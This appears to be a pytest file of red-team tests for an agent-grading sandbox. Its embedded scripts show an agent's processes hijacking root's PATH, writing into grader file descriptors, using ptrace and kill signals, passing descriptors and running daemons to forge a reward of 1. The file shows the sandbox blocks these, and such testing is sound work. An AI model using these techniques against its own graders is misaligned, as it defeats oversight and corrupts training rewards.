"""A red-team review of the key holder and the piped exec, in real containers (the local half is
test_attacks_review.py). The agent is ``agent`` (uid 1000) or a uid without a passwd entry; its
leftover processes run beside the verifier, as shared mode allows.

Each asserts the honest score with no mask the agent caused; those that found holes say so, and
what closed them.
"""

from __future__ import annotations

import json
import shlex
from pathlib import Path
from typing import Any, Dict, Optional

import pytest
from test_attacks_review import LATE_PLANTER
from test_docker_attacks import attack, leave_behind, users_sandbox, write

from nemo_gym.data.tasks.harbor.sandboxes.docker import DockerSandbox

pytestmark = pytest.mark.docker


@pytest.mark.parametrize("fail", [False, True])
def test_a_root_verifys_program_cannot_plant_what_the_runner_imports_late(docker_client, tmp_path, fail):
    # Found in review (the image's Python is 3.12): the agent's program, run as root by verify
    # through os.system, wrote /tests/math.py; the result it left took the runner's rare path,
    # whose module imports math, which nothing had loaded: the planted module ran in the runner
    # before it reported and sent a reward of 1. take_over now imports LATE_IMPORTS early.
    files = {"wanted": "not JSON" if fail else '{"reward": 0.0, "caf\\u00e9": 1}'}
    task_dir = write(tmp_path / "task", {"tests/verifier.py": LATE_PLANTER})

    async def marks(sandbox: DockerSandbox) -> str:
        return (await sandbox.exec("cat /workspace/marks 2>/dev/null; true", user="root")).stdout

    outcome, ran = attack(docker_client, task_dir, write(tmp_path / "ws", files), after=marks)
    assert ran.split() == [], (ran, outcome)
    assert outcome.reward == 0.0 and not outcome.masked, outcome


# The agent's leftover process: as fast as Python goes, it tries every descriptor of every process
# (the grading shell's stdin with the key in its tar, its stdout, the key holder's pipe and report),
# the key file, the runner's inputs, ptrace and signals, writing a reward of 1 wherever it can.
PROBER = r"""
import ctypes, glob, json, os, signal, time
libc = ctypes.CDLL(None, use_errno=True)
me = os.getpid()
seen = {"read": {}, "wrote": [], "signalled": [], "traced": []}
end = time.time() + 25
line = b'reward {"reward": 1}\n'
while time.time() < end:
    for path in glob.glob("/tests/.gym-out-*/key") + glob.glob("/tests/.gym-out-*/deferred") + ["/tests/task_data.json", "/tests/verifier.py"]:
        try:
            seen["read"][path] = open(path, "rb").read().decode("latin-1")
        except OSError:
            continue
        if path.endswith("task_data.json") and "answer" in seen["read"][path]:  # in time for verify
            try:
                with open("/workspace/answer.new", "w") as answer:
                    answer.write(json.loads(seen["read"][path])["answer"])
                os.replace("/workspace/answer.new", "/workspace/answer.txt")
            except (OSError, ValueError):
                pass
    for pid in [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != me]:
        try:
            uid = os.stat("/proc/%d" % pid).st_uid
        except OSError:
            continue
        if uid == os.getuid():
            continue
        for fd in range(0, 8):
            path = "/proc/%d/fd/%d" % (pid, fd)
            try:
                handle = os.open(path, os.O_RDWR | os.O_NONBLOCK)
            except OSError:
                continue
            try:
                seen["read"][path] = os.read(handle, 4096).decode("latin-1")
            except OSError:
                pass
            try:
                os.write(handle, line)
                seen["wrote"].append(path)
            except OSError:
                pass
            os.close(handle)
        if libc.ptrace(16, pid, None, None) == 0:
            seen["traced"].append(pid)
        try:
            os.kill(pid, signal.SIGSTOP)
            seen["signalled"].append(pid)
        except OSError:
            pass
    json.dump(seen, open("/tmp/probe.json.new", "w"))
    os.replace("/tmp/probe.json.new", "/tmp/probe.json")
"""


@pytest.mark.parametrize(
    "agent_user, verifier_user",
    [("agent", None), ("agent", "grader"), ("2000", "grader"), ("2000", "2001")],
)
def test_the_agents_leftovers_reach_nothing_of_the_grading(docker_client, tmp_path, agent_user, verifier_user):
    # ("2000", ...) is an agent without a passwd entry: Docker gives it group 0.
    # Found in review (agent "2000": uid-only, group 0): while /tests was handed to the verifier's
    # user, `chmod -R u=rwX,g=rX,o= /tests` made the runner's inputs 0640 and the out folder 0750 for
    # a moment, before `chmod 0600`/`0700` narrowed them again; a leftover process of group 0
    # polling /tests/task_data.json read the answers in time. The inputs now arrive 0600 (the out
    # folder 0700) and grading never widens a mode: /tests opens to the group last.
    toml = f'[agent]\nuser = "{agent_user}"\n' + (f'[verifier]\nuser = "{verifier_user}"\n' if verifier_user else "")
    source = "import json\ndef verify(task_data):\n    return float(open('answer.txt').read() == task_data['answer'])\n"
    task_dir = write(
        tmp_path / "task",
        {"task.toml": toml, "tests/verifier.py": source, "task_data.json": '{"answer": "the-secret-answer"}'},
    )
    workspace = write(tmp_path / "ws", {"answer.txt": "a guess"})

    async def before(sandbox: DockerSandbox) -> None:
        await sandbox.exec("chmod 777 /workspace /tmp", user="root")
        await leave_behind(sandbox, f"exec python3 -c {shlex.quote(PROBER)}", user=agent_user)

    async def probe(sandbox: DockerSandbox) -> dict:
        result = await sandbox.exec("sleep 1; cat /tmp/probe.json", user="root")
        return json.loads(result.stdout)

    outcome, seen = attack(docker_client, task_dir, workspace, before=before, after=probe)
    leaked = {path: text for path, text in seen["read"].items() if "/tests/" in path or "gym-report" in text}
    assert (outcome.reward, outcome.failure_kind, outcome.masked) == (0.0, None, False), (outcome, leaked)
    assert (seen["wrote"], seen["signalled"], seen["traced"]) == ([], [], []), seen
    assert leaked == {}, leaked


@pytest.mark.parametrize("verifier_user", [None, "grader"])
def test_many_output_files_do_not_mask_the_sample(docker_client, tmp_path, verifier_user):
    # Found in review (a mask the agent caused): 80 small files in /logs/verifier outgrew .sums's
    # 4096-byte cap and masked the sample (see test_attacks_review's output-file test).
    toml = f'[verifier]\nuser = "{verifier_user}"\n' if verifier_user else ""
    source = (
        "import os\ndef verify():\n"
        "    os.system('cd /logs/verifier && for i in $(seq 80); do echo ok > test_$i.xml; done')\n"
        "    return 0.0\n"
    )
    task_dir = write(tmp_path / "task", {"task.toml": toml, "tests/verifier.py": source})
    outcome, _ = attack(docker_client, task_dir, write(tmp_path / "ws", {}))
    assert (outcome.reward, outcome.failure_kind, outcome.masked) == (0.0, None, False), outcome


# Every program grading's root steps might look for, planted by the agent in a /usr/local/sbin opened to it.
PLANTED_TOOLS = [
    "timeout",
    "bash",
    "sh",
    "tar",
    "rm",
    "mkdir",
    "chown",
    "chmod",
    "mv",
    "head",
    "tail",
    "sha256sum",
    "stat",
    "install",
    "id",
    "cat",
    "env",
    "kill",
    "sleep",
    "find",
]
PLANTED = r"""#!/bin/sh
echo "$(/usr/bin/id -u) $0" >> /tmp/planted-ran
for folder in /usr/bin /bin /usr/sbin /sbin; do [ -x "$folder/${0##*/}" ] && exec "$folder/${0##*/}" "$@"; done
exit 1
"""


@pytest.mark.parametrize("verifier_user", [None, "grader"])
def test_grading_runs_no_program_of_a_usr_local_the_agent_may_write(docker_client, tmp_path, verifier_user):
    """Red team 67: grading's root shell and test.sh found their tools on a PATH that began with
    /usr/local/sbin and /usr/local/bin, whoever may write those folders (Debian's staff convention,
    root:staff 2775, or an image that opened them for the agent to install a tool). The agent's
    ``timeout`` there ran as root with the report descriptor and the run's key, and signed a 1.0 for a
    wrong answer. Root's tools now come from /usr/sbin, /usr/bin, /sbin and /bin alone."""
    toml = '[agent]\nuser = "agent"\n' + (f'[verifier]\nuser = "{verifier_user}"\n' if verifier_user else "")
    source = "def verify(task_data):\n    return float(open('answer.txt').read() == task_data['answer'])\n"
    task_dir = write(
        tmp_path / "task",
        {"task.toml": toml, "tests/verifier.py": source, "task_data.json": '{"answer": "the-secret-answer"}'},
    )
    workspace = write(tmp_path / "ws", {"answer.txt": "a guess"})
    plant = "".join(
        f"printf %s {shlex.quote(PLANTED)} > /usr/local/sbin/{tool} && chmod 755 /usr/local/sbin/{tool} || exit 1; "
        for tool in PLANTED_TOOLS
    )

    async def before(sandbox: DockerSandbox) -> None:
        # /usr/local/bin, the image's python3's folder, stays root's: test.sh refuses an interpreter there.
        await sandbox.exec("chmod 1777 /usr/local/sbin /tmp", user="root")
        planted = await sandbox.exec(plant, user="agent")
        assert planted.return_code == 0, planted

    async def ran(sandbox: DockerSandbox) -> str:
        command = "/bin/cat /tmp/planted-ran 2>/dev/null; true"  # by absolute paths: the test's own exec
        return (await sandbox.exec(command, user="root", clean_shell=True)).stdout

    outcome, planted_ran = attack(docker_client, task_dir, workspace, before=before, after=ran)
    assert planted_ran == "", planted_ran
    assert (outcome.reward, outcome.failure_kind, outcome.masked) == (0.0, None, False), outcome


# Step "build" runs the agent's program as the verifier's user, which plants step "deploy"'s record.
PLANTING_PROGRAM = r"""
import os
logs = os.environ.get("VERIFIER_LOGS_DIR", "/logs/verifier")
record = '{"tool": "deploy"}\n'
if os.environ.get("HOW") == "link":  # a hard link to a file the agent keeps writing
    open("/tmp/forge", "w").write(record)
    os.link("/tmp/forge", os.path.join(logs, "actions.jsonl"))
else:
    open(os.path.join(logs, "actions.jsonl"), "w").write(record)
print(41)
"""
STEP_TASK = {
    "dataset.toml": '[gym.tasks."t".verifier]\ninputs = ["actions.jsonl"]\n',
    "t/task.toml": '[agent]\nuser = "agent"\n[verifier]\nuser = "grader"\n'
    '[[steps]]\nname = "build"\n[[steps]]\nname = "deploy"\n',
    "t/steps/build/instruction.md": "write prog.py, which prints 42\n",
    "t/steps/build/tests/verifier.py": (
        "import subprocess\n"
        "def verify(workspace):\n"
        "    out = subprocess.run(['python3', 'prog.py'], cwd=workspace, capture_output=True, text=True)\n"
        "    return float(out.stdout.strip() == '42')\n"
    ),
    "t/steps/deploy/instruction.md": "call the deploy tool\n",
    "t/steps/deploy/tests/verifier.py": (
        "import json, os\n"
        "def verify():\n"
        "    path = os.path.join(os.environ.get('VERIFIER_LOGS_DIR', '/logs/verifier'), 'actions.jsonl')\n"
        "    try:\n"
        "        lines = open(path).read().splitlines()\n"
        "    except OSError:\n"
        "        return 0.0\n"
        "    return float(any(json.loads(line).get('tool') == 'deploy' for line in lines if line.strip()))\n"
    ),
}


# The agent's process left running before grading (as "agent"): takes a descriptor the step's program
# sends it, waits for the grading exec to end (no process of grader's left), then writes through it.
DESCRIPTOR_TAKER = r"""
import array, os, pwd, socket, time
server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
server.bind("\0gym-rt71")
server.listen(1)
connection, _ = server.accept()
_, ancillary, _, _ = connection.recvmsg(16, socket.CMSG_LEN(4))
fd = array.array("i", ancillary[0][2][:4])[0]
grader = pwd.getpwnam("grader").pw_uid
def graders():
    found = False
    for pid in os.listdir("/proc"):
        try:
            found = found or (pid.isdigit() and os.stat("/proc/" + pid).st_uid == grader)
        except OSError:
            pass
    return found
while graders():
    time.sleep(0.1)
os.ftruncate(fd, 0)
os.pwrite(fd, b'{"tool": "deploy"}\n', 0)
open("/tmp/agent-wrote", "w").close()
"""
# The step's program, as the verifier's user: opens the kept input for writing (writing nothing, its
# change time stays) and sends the descriptor to the agent's process.
DESCRIPTOR_SENDER = r"""
import os, socket
try:
    fd = os.open(os.path.join(os.environ.get("VERIFIER_LOGS_DIR", "/logs/verifier"), "actions.jsonl"), os.O_RDWR)
    client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    client.connect("\0gym-rt71")
    client.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, fd.to_bytes(4, "little"))])
except OSError as error:
    print("not sent:", error)
print(41)
"""
OWN_BUILD = {"t/steps/build/tests/test.sh": "python3 /workspace/prog.py; echo 0 > /logs/verifier/reward.txt\n"}


def _two_steps(
    client: Any, tmp_path: Path, files: Dict[str, Optional[str]], program: str, env: Any = None, **hooks: Any
) -> tuple:
    """STEP_TASK with ``files`` over it (``None`` removes one), ``program`` as the agent's prog.py, ``env``
    the sandbox's; runs ``hooks["before"]`` (the sidecar, the agent's leftovers), step build,
    ``hooks["between"]``, step deploy: the two outcomes."""
    import asyncio

    from nemo_gym.data.tasks.harbor.task import load_task
    from nemo_gym.data.tasks.harbor.verification import plan_verification, run_verification

    merged = {**STEP_TASK, **files}
    root = write(tmp_path / "ds", {name: text for name, text in merged.items() if text is not None})
    task = load_task(root / "t")

    async def run() -> tuple:
        async with users_sandbox(client, write(tmp_path / "ws", {"prog.py": program}), env=env) as sandbox:
            await sandbox.exec("chown -R agent /workspace && chmod 1777 /tmp", user="root")
            for name in ("before", "between"):
                if name == "between":
                    build = await run_verification(plan_verification(task, step="build"), sandbox)
                if hooks.get(name) is not None:
                    await hooks[name](sandbox)
            return build, await run_verification(plan_verification(task, step="deploy"), sandbox)

    return asyncio.run(run())


async def _sidecar_records_deploy(sandbox: DockerSandbox) -> None:
    """A root sidecar records the agent's call of the deploy tool."""
    record = 'mkdir -p /logs/verifier && echo \'{"tool": "deploy"}\' >> /logs/verifier/actions.jsonl'
    ran = await sandbox.exec(record, user="root")
    assert ran.return_code == 0, ran


@pytest.mark.parametrize("how", ["file", "link", "file, by a task's own test.sh"])
def test_a_sidecar_input_the_verifiers_user_planted_never_reaches_the_next_step(docker_client, tmp_path, how):
    """Red team 69: a coding step's verify runs the agent's program as ``[verifier].user``, who holds
    ``/logs/verifier`` while it runs: the program wrote a declared input (a file, or a hard link to one
    the agent kept writing), which prepare kept for the next step, whose verify trusted it as the
    sidecar's record (a wrong answer scored 1.0). An input that the run made, replaced or changed is
    removed once the folder is locked again."""
    files = {"t/steps/build/tests/verifier.py": None, **OWN_BUILD} if how.endswith("test.sh") else {}
    build, deploy = _two_steps(docker_client, tmp_path, files, PLANTING_PROGRAM, env={"HOW": how})
    assert (build.reward, build.masked) == (0.0, False), build
    assert (deploy.reward, deploy.failure_kind, deploy.masked) == (0.0, None, False), deploy


@pytest.mark.parametrize("when", ["between the steps", "before a task's own test.sh step"])
def test_the_sidecars_input_reaches_the_next_step(docker_client, tmp_path, when):
    """The control, and red team 71: the sidecar's record, written between the steps or before a step
    whose task's own test.sh runs as the verifier's user, reaches the next step's verify (the record of
    the kept inputs was root's alone, unreadable to that user's finish, which then removed them all)."""
    own = when.startswith("before")
    files = {"t/steps/build/tests/verifier.py": None, **OWN_BUILD} if own else {}
    hooks = {"before" if own else "between": _sidecar_records_deploy}
    build, deploy = _two_steps(docker_client, tmp_path, files, "print(41)\n", **hooks)
    assert (build.reward, build.masked) == (0.0, False), build
    assert (deploy.reward, deploy.failure_kind, deploy.masked) == (1.0, None, False), deploy


def test_a_sidecar_record_the_verifiers_user_owned_stays_readable_to_it(docker_client, tmp_path):
    """Red team 73: an input of the verifier's user's, made root's before the run, kept its mode: a
    record the sidecar wrote as that user at 0600 became root's 0600, and verify could not read it (a
    correct answer scored 0). It is made readable by all, inside a folder only root and that user enter."""

    async def before(sandbox: DockerSandbox) -> None:
        record = 'mkdir -p /logs/verifier && echo \'{"tool": "deploy"}\' > /logs/verifier/actions.jsonl'
        ran = await sandbox.exec(
            f"{record} && chown grader /logs/verifier/actions.jsonl && chmod 600 /logs/verifier/actions.jsonl",
            user="root",
        )
        assert ran.return_code == 0, ran

    build, deploy = _two_steps(docker_client, tmp_path, {}, "print(41)\n", before=before)
    assert (build.reward, build.masked) == (0.0, False), build
    assert (deploy.reward, deploy.failure_kind, deploy.masked) == (1.0, None, False), deploy


@pytest.mark.parametrize("step", ["verify", "a task's own test.sh"])
def test_a_descriptor_the_verifiers_user_opened_on_an_input_reaches_nothing_kept(docker_client, tmp_path, step):
    """Red team 71: a sidecar that writes its records as the verifier's user left them that user's to
    open: the step's program opened one for writing (its change time stayed) and sent the descriptor to
    the agent's process, which wrote the next step's record through it once grading had ended. Such an
    input is made afresh, root's, before the run: the descriptor reaches a file nothing keeps."""
    files = {"t/steps/build/tests/verifier.py": None, **OWN_BUILD} if step != "verify" else {}

    async def before(sandbox: DockerSandbox) -> None:
        await sandbox.exec("mkdir -p /logs/verifier", user="root")
        await sandbox.exec('echo \'{"tool": "build"}\' > /logs/verifier/actions.jsonl', user="root")
        await sandbox.exec("chown grader /logs/verifier/actions.jsonl", user="root")
        await leave_behind(sandbox, f"exec python3 -c {shlex.quote(DESCRIPTOR_TAKER)}")

    async def between(sandbox: DockerSandbox) -> None:
        await sandbox.exec("for i in $(seq 50); do [ -e /tmp/agent-wrote ] && break; sleep 0.1; done", user="root")

    build, deploy = _two_steps(docker_client, tmp_path, files, DESCRIPTOR_SENDER, before=before, between=between)
    assert (build.reward, build.masked) == (0.0, False), build
    assert (deploy.reward, deploy.failure_kind, deploy.masked) == (0.0, None, False), deploy


# Red team 77: the agent's program, run by a task's own test.sh as [verifier].user, whose grading then
# ended as that user: it kept a planted input (its folder closed to that user's finish), masked its 0 (an
# out folder that user's finish could not remove), or left a daemon that killed the grading shell and
# planted the next step's input the moment /logs/verifier was handed over.
OWN_STEP_PROGRAMS = {
    "an input kept behind a closed folder": r"""
import os
logs = os.environ.get("VERIFIER_LOGS_DIR", "/logs/verifier")
with open(os.path.join(logs, "actions.jsonl"), "w") as record:
    record.write('{"tool": "deploy"}\n')
os.chmod(logs, 0o500)
print(41)
""",
    "an out folder its user cannot remove": r"""
import glob, os
for out in glob.glob("/tests/.gym-out-*"):
    open(os.path.join(out, "pin"), "w").close()
    os.chmod(out, 0o500)
print(41)
""",
    "junk in the grading shell's results pipe": r"""
import os
pid = os.getppid()
while pid > 1:  # each ancestor of this user's: the grading shell's fd 6 carries the results
    try:
        fd = os.open("/proc/%d/fd/6" % pid, os.O_WRONLY)
        os.write(fd, b"junk" * 1000)
        os.close(fd)
    except OSError:
        pass
    pid = int(open("/proc/%d/stat" % pid).read().rsplit(") ", 1)[1].split()[1])
print(41)
""",
    "a daemon that kills the grading shell": r"""
import os, signal, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        me, uid = os.getpid(), os.getuid()
        for pid in os.listdir("/proc"):  # every other process of this user: timeout, test.sh, grading's shell
            try:
                if pid.isdigit() and int(pid) != me and os.stat("/proc/" + pid).st_uid == uid:
                    os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass
        logs, end = "/logs/verifier", time.monotonic() + 120
        while time.monotonic() < end:  # the next grading hands the folder over: plant its input
            try:
                if os.stat(logs).st_uid == uid:
                    with open(os.path.join(logs, "actions.jsonl"), "w") as record:
                        record.write('{"tool": "deploy"}\n')
            except OSError:
                pass
            time.sleep(0.002)
    os._exit(0)
time.sleep(5)
print(41)
""",
}


@pytest.mark.parametrize("how", sorted(OWN_STEP_PROGRAMS))
def test_a_task_s_own_test_sh_run_as_its_user_leaves_nothing_for_the_next_step(docker_client, tmp_path, how):
    """Red team 77: grading of a task's own test.sh run as ``[verifier].user`` ended as that user, whose
    programs (the agent's, run by test.sh) could defeat it. The admin now takes the folders back after
    it, kills what its run started, and removes what it made of the inputs: the step scores its 0, and
    the next step's record is the sidecar's alone."""
    files = {"t/steps/build/tests/verifier.py": None, **OWN_BUILD}
    build, deploy = _two_steps(docker_client, tmp_path, files, OWN_STEP_PROGRAMS[how])
    assert (build.reward, build.masked) == (0.0, False), build
    assert (deploy.reward, deploy.failure_kind, deploy.masked) == (0.0, None, False), deploy


# Red team 78: the agent's process, left running before grading, pins a folder of its own in the out
# folder the step's program opened to it: finish, as the verifier's user, cannot remove it.
PINNER = r"""
import glob, os, time
end = time.time() + 60
while time.time() < end:
    for out in glob.glob("/tests/.gym-out-*"):
        try:
            os.mkdir(out + "/pin", 0o700)
            open(out + "/pin/x", "w").close()
            os.chmod(out + "/pin", 0o500)
            open("/tmp/pinned", "w").close()
            raise SystemExit
        except OSError:
            pass
    time.sleep(0.01)
"""
OPENER = r"""
import glob, os, time
os.chmod("/tests", 0o755)
for out in glob.glob("/tests/.gym-out-*"):
    os.chmod(out, 0o777)
for _ in range(500):
    if os.path.exists("/tmp/pinned"):
        break
    time.sleep(0.01)
print(41)
"""


def test_a_folder_the_agents_process_pinned_in_the_out_folder_scores_the_step_0(docker_client, tmp_path):
    """Red team 78: whatever makes the exec of that user's fail (here a folder another user pinned in
    the out folder, which finish as that user cannot remove; or junk in its results pipe, above) is the
    run's own doing, which can also trace that shell: the step scores 0 once reclaim found the sandbox
    whole (a full disk, as reclaim sees it, masks)."""

    async def pinner(sandbox: Any) -> None:
        await sandbox.exec(f"cat > /tmp/pinner.py <<'EOF'\n{PINNER}\nEOF", user="agent")
        await sandbox.exec("nohup setsid python3 /tmp/pinner.py >/dev/null 2>&1 </dev/null &", user="agent")

    files = {"t/steps/build/tests/verifier.py": None, **OWN_BUILD}
    build, deploy = _two_steps(docker_client, tmp_path, files, OPENER, before=pinner)
    assert (build.reward, build.masked) == (0.0, False), build
    assert (deploy.reward, deploy.failure_kind, deploy.masked) == (0.0, None, False), deploy


def _verified_by(verifier: str) -> Dict[str, Optional[str]]:
    """STEP_TASK's files for a verifier run as ``verifier``: ``grader`` as it names, or root (no
    ``[verifier].user`` beside the agent's)."""
    if verifier == "grader":
        return {}
    return {"t/task.toml": '[agent]\nuser = "agent"\n[[steps]]\nname = "build"\n[[steps]]\nname = "deploy"\n'}


async def _agent_writes_the_input_first(sandbox: Any) -> None:
    """In an image that left /logs/verifier open to all, before the first grading: the agent writes the
    sidecar's record itself."""
    opened = await sandbox.exec("mkdir -p /logs/verifier && chmod 777 /logs/verifier", user="root")
    assert opened.return_code == 0, opened
    planted = await sandbox.exec('echo \'{"tool": "deploy"}\' > /logs/verifier/actions.jsonl', user="agent")
    assert planted.return_code == 0, planted


async def _sidecar_records_status(sandbox: Any) -> None:
    record = 'echo \'{"tool": "status"}\' >> /logs/verifier/actions.jsonl'
    ran = await sandbox.exec(record, user="root")
    assert ran.return_code == 0, ran


@pytest.mark.parametrize("verifier", ["grader", "root"])
def test_an_input_the_agent_wrote_before_the_first_grading_is_not_the_sidecars(docker_client, tmp_path, verifier):
    """Red team 78: made afresh as root's, the agent's own input kept what the agent wrote in it, and the
    sidecar's honest record went on after it (1.0 for a wrong answer). An input of an agent's user is
    removed: it was never the sidecar's."""
    files = _verified_by(verifier)
    build, deploy = _two_steps(
        docker_client,
        tmp_path,
        files,
        "print(41)\n",
        before=_agent_writes_the_input_first,
        between=_sidecar_records_status,
    )
    assert (build.reward, build.masked) == (0.0, False), build
    assert (deploy.reward, deploy.failure_kind, deploy.masked) == (0.0, None, False), deploy


async def _sidecar_of_its_own_user_holds_the_record(sandbox: Any) -> None:
    """A sidecar of its own user (uid 2000): its record made before the first grading, 0644, and a
    descriptor on it that it writes the deploy call through later."""
    made = await sandbox.exec(
        'mkdir -p /logs/verifier && echo \'{"tool": "start"}\' > /logs/verifier/actions.jsonl '
        "&& chown 2000:2000 /logs/verifier/actions.jsonl",
        user="root",
    )
    assert made.return_code == 0, made
    keeper = "exec 9>>/logs/verifier/actions.jsonl; while [ ! -e /tmp/go ]; do sleep 0.05; done; "
    keeper += 'echo \'{"tool": "deploy"}\' >&9; : > /tmp/written'
    started = await sandbox.exec(f"nohup bash -c {shlex.quote(keeper)} >/dev/null 2>&1 & sleep 0.5", user="2000")
    assert started.return_code == 0, started


async def _sidecar_writes_through_its_descriptor(sandbox: Any) -> None:
    await sandbox.exec(
        ": > /tmp/go; for i in $(seq 100); do [ -e /tmp/written ] && break; sleep 0.05; done", user="root"
    )


def test_a_sidecar_of_its_own_user_keeps_writing_its_record_across_steps(docker_client, tmp_path):
    """The control of red teams 77 and 78: an input of a user that is neither an agent's nor the
    verifier's, closed to others, is kept as it is (the same inode), so the sidecar's descriptor on
    it still reaches the record the next step reads."""
    build, deploy = _two_steps(
        docker_client,
        tmp_path,
        {},
        "print(41)\n",
        before=_sidecar_of_its_own_user_holds_the_record,
        between=_sidecar_writes_through_its_descriptor,
    )
    assert (build.reward, build.masked) == (0.0, False), build
    assert (deploy.reward, deploy.failure_kind, deploy.masked) == (1.0, None, False), deploy


def test_an_input_of_an_agent_the_task_names_no_user_for_is_removed_too(docker_client, tmp_path):
    """Red team 79: the agents' users were those the task names, or the image's ``USER`` only when it
    named none. A first step that names none runs its agent as the image's ``USER`` (``agent``) while
    the next names ``grader``: the first step's agent wrote the sidecar's input before the first grading
    and it was kept (1.0). Every step's agent counts, the image's ``USER`` for one that names none."""
    import asyncio

    from images import LABEL, _built, users_image

    from nemo_gym.data.tasks.harbor.sandboxes.docker import DockerSandbox
    from nemo_gym.data.tasks.harbor.task import load_task
    from nemo_gym.data.tasks.harbor.verification import plan_verification, run_verification

    users, volumes = users_image(docker_client)
    image = _built(docker_client, "nemo-gym-test/users-as-agent:1", f"FROM {users}\nUSER agent\n")
    toml = '[[steps]]\nname = "build"\n[[steps]]\nname = "deploy"\n[steps.agent]\nuser = "grader"\n'
    files = {**STEP_TASK, "t/task.toml": toml, "t/steps/build/tests/verifier.py": "def verify():\n    return 0.0\n"}
    task = load_task(write(tmp_path / "ds", files) / "t")

    async def run() -> Any:
        async with DockerSandbox(
            image, volumes=volumes, labels=LABEL, client=docker_client, workdir="/workspace"
        ) as sandbox:
            await sandbox.exec("mkdir -p /logs/verifier && chmod 777 /logs/verifier", user="root")
            planted = await sandbox.exec('echo \'{"tool": "deploy"}\' > /logs/verifier/actions.jsonl')  # as agent
            assert planted.return_code == 0, planted
            await run_verification(plan_verification(task, step="build"), sandbox)
            await _sidecar_records_status(sandbox)
            return await run_verification(plan_verification(task, step="deploy"), sandbox)

    deploy = asyncio.run(run())
    assert (deploy.reward, deploy.failure_kind, deploy.masked) == (0.0, None, False), deploy


# How the agent could write a root sidecar's record before the first grading: (its user, the shell that
# made the record, as root).
WRITABLE_RECORDS = {
    "root's group, as a uid no passwd entry names": ("4242", "chmod 0664 /logs/verifier/actions.jsonl"),
    "a group an odd /etc/group line puts the agent in": (
        "agent",
        "printf 'side:x:2003:agent \\n' >> /etc/group && chgrp 2003 /logs/verifier/actions.jsonl "
        "&& chmod 0664 /logs/verifier/actions.jsonl",
    ),
    "anyone": ("agent", "chmod 0666 /logs/verifier/actions.jsonl"),
}


@pytest.mark.parametrize("how", sorted(WRITABLE_RECORDS))
def test_an_input_an_agent_could_write_through_a_group_or_as_anyone_is_removed(docker_client, tmp_path, how):
    """Red teams 80 and 81: a root sidecar's record open to a group (umask 002) or to all, in a closed
    folder the agent may search, was the agent's to write before the first grading, through root's group
    (a uid no passwd entry names runs in it), a group the container gives it where ``id -G`` does not (a
    member line with a trailing space), or as anyone; made afresh, it kept what the agent wrote (1.0). An
    input open to a group or to all is removed."""
    agent, opened = WRITABLE_RECORDS[how]

    async def plant(sandbox: Any) -> None:
        made = await sandbox.exec(
            "mkdir -p /logs/verifier && chmod 755 /logs/verifier "
            f'&& echo \'{{"tool": "start"}}\' > /logs/verifier/actions.jsonl && {opened}',
            user="root",
        )
        assert made.return_code == 0, made
        forged = await sandbox.exec('echo \'{"tool": "deploy"}\' > /logs/verifier/actions.jsonl', user=agent)
        assert forged.return_code == 0, forged

    named = agent if agent.isdigit() else f'"{agent}"'
    toml = (
        f'[agent]\nuser = {named}\n[verifier]\nuser = "grader"\n[[steps]]\nname = "build"\n[[steps]]\nname = "deploy"\n'
    )
    build, deploy = _two_steps(
        docker_client, tmp_path, {"t/task.toml": toml}, "print(41)\n", before=plant, between=_sidecar_records_status
    )
    assert (build.reward, build.masked) == (0.0, False), build
    assert (deploy.reward, deploy.failure_kind, deploy.masked) == (0.0, None, False), deploy


async def _agent_owns_the_input(sandbox: Any, how: str) -> None:
    """Before the first grading, in an image that left /logs/verifier open to all (Harbor's 777): the
    agent makes the sidecar's input its own file, and keeps a way to write it (a hard link elsewhere,
    or a descriptor in a process it leaves running)."""
    opened = await sandbox.exec("mkdir -p /logs/verifier && chmod 777 /logs/verifier", user="root")
    assert opened.return_code == 0, opened
    if how == "a hard link":
        plant = ": > /logs/verifier/actions.jsonl && ln /logs/verifier/actions.jsonl /tmp/keep"
    else:
        keeper = "exec 9>>/logs/verifier/actions.jsonl; while [ ! -e /tmp/go ]; do sleep 0.05; done; "
        keeper += 'echo \'{"tool": "deploy"}\' >&9; : > /tmp/written'
        plant = f"nohup bash -c {shlex.quote(keeper)} >/dev/null 2>&1 & sleep 0.5"
    planted = await sandbox.exec(plant, user="agent")
    assert planted.return_code == 0, planted


async def _agent_writes_its_input(sandbox: Any, how: str) -> None:
    if how == "a hard link":
        write = 'echo \'{"tool": "deploy"}\' > /tmp/keep'
    else:
        write = ": > /tmp/go; for i in $(seq 100); do [ -e /tmp/written ] && break; sleep 0.05; done"
    await sandbox.exec(write, user="agent")


@pytest.mark.parametrize("verifier", ["grader", "root"])
@pytest.mark.parametrize("how", ["a hard link", "a descriptor"])
def test_an_input_the_agent_owned_before_the_first_grading_is_never_its_to_write(
    docker_client, tmp_path, how, verifier
):
    """Red team 77: where /logs/verifier was open to all before the first grading, the agent made the
    declared input its own file and kept a second name for it (or a descriptor): prepare kept it as it
    was, and between the steps the agent wrote the record the next step's verify read (1.0 for a wrong
    answer, whoever the verifier). An input of an agent's user is removed before each grading, and one
    with another name is made afresh."""
    files = _verified_by(verifier)
    build, deploy = _two_steps(
        docker_client,
        tmp_path,
        files,
        "print(41)\n",
        before=lambda sandbox: _agent_owns_the_input(sandbox, how),
        between=lambda sandbox: _agent_writes_its_input(sandbox, how),
    )
    assert (build.reward, build.masked) == (0.0, False), build
    assert (deploy.reward, deploy.failure_kind, deploy.masked) == (0.0, None, False), deploy


@pytest.mark.parametrize("user", ["grader", "1001", "grader:grader", "1001:1001", "grader:answers"])
def test_the_verifiers_groups_are_those_docker_exec_gives_the_same_user(docker_client, tmp_path, user):
    """Red team 70: the runner switched to ``name:group`` with the user's supplementary groups too,
    where ``docker exec -u name:group`` (Harbor's way to run test.sh as ``[verifier].user``) gives the
    group named alone: a verify scored 1.0 under NeMo Gym by reading a file of a group the user is in,
    which it could not read under Harbor. The runner's groups are Docker's, whatever the spelling."""
    toml = f'[verifier]\nuser = "{user}"\n'
    source = "import os\ndef verify():\n    print('groups', sorted(os.getgroups()))\n    return 1.0\n"
    task_dir = write(tmp_path / "task", {"task.toml": toml, "tests/verifier.py": source})

    async def before(sandbox: DockerSandbox) -> None:
        added = await sandbox.exec("groupadd answers && usermod -aG answers grader", user="root")
        assert added.return_code == 0, added

    async def docker_groups(sandbox: DockerSandbox) -> str:
